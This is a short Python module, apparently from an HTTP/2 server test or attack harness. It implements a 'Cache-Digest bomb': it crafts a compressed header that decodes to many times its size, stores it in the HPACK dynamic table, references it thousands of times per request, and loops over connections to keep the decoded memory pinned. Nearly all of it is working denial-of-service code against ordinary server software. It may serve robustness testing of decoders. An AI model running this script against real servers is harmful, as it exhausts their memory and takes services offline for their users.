"""Cache-Digest bomb: a dead header that decodes to 64 times its size, referred to a thousand times.

Golomb-coded sets of draft-ietf-httpbis-cache-digest; the library decodes each occurrence before any handler runs (7 KB on the
wire become 740 MB). The header must never be decoded.
"""
import base64

from kit.frames import DYNAMIC, block, head, indexed, literal, opening

LISTENER = "h2c"
GROWTH_MIB = 32
# 31 bits of range, no remainder bits: every further bit is one value of eight bytes
DIGEST = base64.urlsafe_b64encode(b"\xf8\x00" + b"\xff" * 2800).rstrip(b"=")


def attack(enemy):
    # no body comes, so the request stays and with it what was decoded
    bomb = block(method=b"POST") + literal(b"cache-digest", DIGEST, remember=True) + indexed(DYNAMIC) * 3900
    while enemy.goes_on():
        connection = enemy.connect()
        if connection is None:
            continue
        with connection:
            if enemy.push(connection, opening() + head(1, bomb, ends=False)):
                enemy.note("waves")
                enemy.listen(connection, 0.5)
